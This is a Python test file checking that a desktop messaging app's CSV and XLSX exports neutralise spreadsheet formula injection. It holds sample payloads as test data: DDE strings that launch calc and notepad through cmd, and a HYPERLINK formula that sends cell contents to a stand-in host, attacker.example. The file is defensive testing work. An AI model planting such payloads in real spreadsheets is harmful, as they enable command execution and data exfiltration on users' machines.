"""Exports never hand a spreadsheet a formula: a cell that begins with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is written as text.

In a CSV it is prefixed with an apostrophe (a CSV has no cell types); in an XLSX it is an
explicit string cell, and no ``<f>`` (formula) element is written at all. Checked for the
plain writers (``kupon_desktop.exporting``), the campaign results (plain table and "into
my file"), the rejected-rows report, all fed with values a hostile list or a hostile
platform answer could carry.
"""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kupon_desktop.campaign.results_export import export_into_source, export_results
from kupon_desktop.contacts.importer import import_file
from kupon_desktop.contacts.rejected_export import export_rejected
from kupon_desktop.exporting import FORMULA_LEADS, write_csv, write_xlsx
from kupon_desktop.store.log import open_log
from kupon_desktop.store.models import NewRecipient

LEADS = ("=", "+", "-", "@", "\t", "\r")
#: one classic payload per lead: DDE, HYPERLINK exfiltration, arithmetic, @-functions
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://attacker.example/?"&A1,"click")',
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE = ["79161234567", "Анна", "a=b", " =1+1 (leading space is not a formula)", ""]


def test_the_leads_are_the_ones_the_issue_names() -> None:
    assert set(FORMULA_LEADS) == set(LEADS)
    assert {p[0] for p in PAYLOADS} == set(LEADS)


def _csv_rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh, delimiter=";"))


def _assert_csv_escaped(cell: str, original: str) -> None:
    if original.startswith(LEADS):
        assert cell == "'" + original, (cell, original)
    else:
        assert cell == original, (cell, original)


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as z:
        sheets = [n for n in z.namelist() if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        return "".join(z.read(n).decode("utf-8") for n in sheets)


def _xml_text(value: str) -> str:
    """What an XLSX reader gets back for ``value``: XML turns a raw CR into LF (openpyxl
    does not write it as _x000D_); still a text cell, only the line end differs."""
    return value.replace("\r", "\n")


def _assert_xlsx_has_no_formula(path: Path) -> None:
    xml = _sheet_xml(path)
    assert "<f>" not in xml and "<f " not in xml, "a formula element was written"
    assert 't="str"' not in xml  # a formula's cached string result


@pytest.mark.parametrize("payload", PAYLOADS + SAFE)
def test_write_csv_escapes_formula_leads(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, [payload, "plain"], [[payload, 1], ["x", payload], [-5, None]])
    rows = _csv_rows(path)
    _assert_csv_escaped(rows[0][0], payload)
    _assert_csv_escaped(rows[1][0], payload)
    _assert_csv_escaped(rows[2][1], payload)
    assert rows[1][1] == "1"
    # numbers are numbers, not text that looks like a formula
    assert rows[3] == ["-5", ""]


@pytest.mark.parametrize("payload", PAYLOADS + SAFE)
def test_write_xlsx_writes_text_cells_only(tmp_path: Path, payload: str) -> None:
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [payload, "plain"], [[payload, 1], ["x", payload], [-5, None]])
    _assert_xlsx_has_no_formula(path)
    ws = load_workbook(path).active
    for cell in (ws["A1"], ws["A2"], ws["B3"]):
        if payload:
            assert cell.data_type == "s", (cell.coordinate, cell.data_type)
        assert (cell.value or "") == _xml_text(payload)  # as given, nothing prefixed
    assert ws["B2"].value == 1 and ws["A4"].value == -5


def _campaign(log, source: Path | None = None) -> str:
    """A campaign whose names, personal fields and platform errors carry every payload:
    every recipient sent and rejected with its payload as the platform's error."""
    recipients = [
        NewRecipient(
            address=f"7916000000{i}",
            text="hi",
            row=i + 2,
            name=payload,
            fields={"Имя": payload, "Комментарий": "ok"},
        )
        for i, payload in enumerate(PAYLOADS)
    ]
    draft: dict[str, object] = {"type": "sms", "text": "hi"}
    if source is not None:
        draft["_source"] = {"path": str(source), "sheet": None, "header_row": 1}
    campaign_id = log.create_campaign(draft, "sms", recipients, name="hostile")
    keys = list(range(len(PAYLOADS)))
    assert log.mark_in_flight(campaign_id, keys) == keys
    assert log.mark_rejected(campaign_id, [(k, PAYLOADS[k]) for k in keys]) == keys
    return campaign_id


@pytest.fixture
def log(tmp_path: Path):
    log = open_log(tmp_path / "log.sqlite3")
    try:
        yield log
    finally:
        log.close()


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_results_export_escapes_names_and_platform_errors(tmp_path: Path, log, suffix: str) -> None:
    campaign_id = _campaign(log)
    path = tmp_path / f"results{suffix}"
    assert export_results(log, campaign_id, path) == len(PAYLOADS)
    if suffix == ".csv":
        rows = _csv_rows(path)
        for payload in PAYLOADS:
            # the name column and the error column both hold it, escaped
            found = [c for row in rows[1:] for c in row if c.endswith(payload)]
            assert len(found) >= 2, (payload, rows)
            for cell in found:
                _assert_csv_escaped(cell, payload)
    else:
        _assert_xlsx_has_no_formula(path)
        ws = load_workbook(path).active
        wanted = {_xml_text(p) for p in PAYLOADS}
        values = [c for row in ws.iter_rows() for c in row if c.value in wanted]
        assert len(values) >= 2 * len(PAYLOADS)
        assert all(c.data_type == "s" for c in values)


def test_export_into_the_source_workbook_writes_no_formula(tmp_path: Path, log) -> None:
    source = tmp_path / "list.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.append(["Имя", "Телефон"])
    for i in range(len(PAYLOADS)):
        ws.append([f"Клиент {i}", f"7916000000{i}"])
    wb.save(source)
    campaign_id = _campaign(log, source)
    target = tmp_path / "list-results.xlsx"
    assert export_into_source(log, campaign_id, target) == len(PAYLOADS)
    _assert_xlsx_has_no_formula(target)
    out = load_workbook(target).active
    wanted = {_xml_text(p) for p in PAYLOADS}
    errors = [c for row in out.iter_rows() for c in row if c.value in wanted]
    assert len(errors) == len(PAYLOADS) and all(c.data_type == "s" for c in errors)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_into_a_new_table_escapes_the_lists_own_columns(
    tmp_path: Path, log, suffix: str
) -> None:
    """A CSV source gives a new table of the recipients' own columns plus the results:
    the list's own hostile cells are escaped too."""
    campaign_id = _campaign(log, tmp_path / "list.csv")
    target = tmp_path / f"out{suffix}"
    assert export_into_source(log, campaign_id, target) == len(PAYLOADS)
    if suffix == ".csv":
        rows = _csv_rows(target)
        for payload in PAYLOADS:
            cells = [c for row in rows[1:] for c in row if c.endswith(payload)]
            assert len(cells) >= 2
            for cell in cells:
                _assert_csv_escaped(cell, payload)
    else:
        _assert_xlsx_has_no_formula(target)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejected_rows_report_escapes_the_files_values(tmp_path: Path, suffix: str) -> None:
    source = tmp_path / "hostile.csv"
    lines = ["Имя;Телефон", "Анна;+7 916 123-45-67"]
    lines += [f"Гость {i};{p.strip()}" for i, p in enumerate(PAYLOADS[:4])]
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = import_file(source)
    assert len(result.rejected) == 4
    target = tmp_path / f"rejected{suffix}"
    export_rejected(result, source, target)
    if suffix == ".csv":
        rows = _csv_rows(target)
        values = [row[1] for row in rows[1:]]  # the phone column, as the file had it
        assert values and all(v.startswith("'") for v in values), values
    else:
        _assert_xlsx_has_no_formula(target)
        ws = load_workbook(target).active
        assert all(ws.cell(row=r, column=2).data_type == "s" for r in range(2, ws.max_row + 1))
